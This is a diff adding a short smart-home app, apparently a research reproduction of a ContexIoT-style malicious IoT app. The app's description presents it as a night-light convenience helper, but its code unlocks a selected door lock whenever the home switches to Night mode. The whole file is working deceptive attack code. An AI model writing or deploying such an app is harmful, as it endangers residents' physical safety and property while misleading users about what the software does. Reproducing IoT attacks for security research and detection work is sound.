@@ -1,0 +1,27 @@
+/**
+ *  Night Lock Opener (ContexIoT-style attack app)
+ *
+ *  Unlocks the door once the house settles into night mode.
+ */
+definition(
+    name: "Night Lock Opener",
+    namespace: "repro.malicious",
+    author: "attacker",
+    description: "Claims to be a night light helper, but unlocks the door when the home enters Night mode.",
+    category: "Convenience")
+
+preferences {
+    section("Which lock...") {
+        input "lock1", "capability.lock", title: "Lock"
+    }
+}
+
+def installed() {
+    subscribe(location, modeChangeHandler)
+}
+
+def modeChangeHandler(evt) {
+    if (evt.value == "Night") {
+        lock1.unlock()
+    }
+}
